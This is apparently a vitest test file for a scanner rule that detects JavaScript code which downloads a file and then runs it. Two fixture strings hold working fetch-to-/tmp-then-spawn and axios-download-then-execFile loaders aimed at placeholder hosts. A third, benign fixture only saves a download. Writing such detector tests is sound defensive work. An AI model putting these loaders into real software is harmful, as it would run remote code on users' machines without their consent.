import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-drop-and-run.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('downloads that are started', () => {
  it('a script', async () => {
    expect(
      await seen({
        'app.js':
          "const fs = require('fs'), cp = require('child_process')\nrequire('https').get('https://a.invalid/x', (r) => {\n  r.pipe(fs.createWriteStream('/tmp/x.js'))\n  cp.spawn('node', ['/tmp/x.js'])\n})",
      }),
    ).toEqual(['decisive app.js:4'])
  })

  it('a program', async () => {
    expect(
      await seen({
        'app.js':
          "const fs = require('fs')\nrequire('axios').get('https://a.invalid/x').then((r) => { fs.writeFileSync('/tmp/updater', r.data); require('child_process').execFile('/tmp/updater') })",
      }),
    ).toEqual(['strong app.js:2'])
  })

  it('not a download that is kept', async () => {
    expect(
      await seen({
        'app.js':
          "require('https').get('https://a.example/x.js', (r) => r.pipe(require('fs').createWriteStream('x.js')))",
      }),
    ).toEqual([])
  })
})
